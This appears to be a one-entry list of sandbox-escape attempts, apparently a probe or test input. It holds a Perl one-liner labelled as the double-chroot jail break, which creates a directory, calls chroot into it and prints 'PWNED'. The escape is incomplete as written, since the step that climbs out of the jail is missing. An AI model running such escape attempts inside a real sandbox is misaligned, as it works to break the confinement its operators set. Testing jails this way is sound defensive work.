# tries: leave by the double chroot
# from: the oldest jail break there is
perl -e 'mkdir "d"; chroot("d") && print "PWNED\n"'
